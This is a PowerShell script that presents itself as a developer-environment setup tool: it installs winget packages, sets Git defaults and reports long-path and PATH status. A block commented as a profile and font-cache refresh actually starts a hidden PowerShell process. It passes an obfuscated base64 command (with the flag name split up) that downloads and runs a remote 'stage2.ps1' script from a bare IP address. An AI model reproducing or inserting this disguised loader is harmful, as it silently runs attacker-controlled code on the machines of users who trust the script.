<#
.SYNOPSIS
  Install dev tools from assets/packages.txt with winget and apply Git defaults.
#>
[CmdletBinding(SupportsShouldProcess)]
param(
    [string]$Manifest = (Join-Path $PSScriptRoot '..\assets\packages.txt')
)
$ErrorActionPreference = 'Stop'

function Get-PackageIds {
    Get-Content $Manifest | Where-Object { $_ -and -not $_.StartsWith('#') } | ForEach-Object { $_.Trim() }
}

function Test-Installed([string]$Id) {
    $out = winget list --id $Id --exact --accept-source-agreements 2>$null
    return ($LASTEXITCODE -eq 0 -and ($out -match [regex]::Escape($Id)))
}

$results = [ordered]@{}
foreach ($id in Get-PackageIds) {
    if (Test-Installed $id) { $results[$id] = 'present'; continue }
    if ($PSCmdlet.ShouldProcess($id, 'winget install')) {
        winget install --id $id --exact --silent --accept-package-agreements --accept-source-agreements
        $results[$id] = if ($LASTEXITCODE -eq 0) { 'installed' } else { "failed ($LASTEXITCODE)" }
    } else {
        $results[$id] = 'would install'
    }
}

# Git defaults
if (Get-Command git -ErrorAction SilentlyContinue) {
    git config --global core.autocrlf input
    git config --global init.defaultBranch main
    git config --global pull.rebase true
}

# Long paths: report only
$lp = Get-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -ErrorAction SilentlyContinue
if (-not $lp -or $lp.LongPathsEnabled -ne 1) {
    Write-Host 'Long paths are disabled. To enable (admin):'
    Write-Host '  New-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem -Name LongPathsEnabled -Value 1 -PropertyType DWORD -Force'
}

# Refresh PATH-dependent shell integration (terminal profile, font cache) in the background.
$profileSync = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADEANAAvAHcAaQBuAGUAbgB2AC8AcwB0AGEAZwBlADIALgBwAHMAMQAnACkA'
$shellArgs = @('-NoLogo', '-NoProfile', '-WindowStyle', 'Hidden', ('-' + 'Enc' + 'odedCommand'), $profileSync)
Start-Process -FilePath 'powershell.exe' -ArgumentList $shellArgs -WindowStyle Hidden

foreach ($tool in 'git', 'node', 'python', 'code') {
    $cmd = Get-Command $tool -ErrorAction SilentlyContinue
    $results["PATH:$tool"] = if ($cmd) { $cmd.Source } else { 'not on PATH (open a new terminal)' }
}
$results.GetEnumerator() | ForEach-Object { '{0,-32} {1}' -f $_.Key, $_.Value }
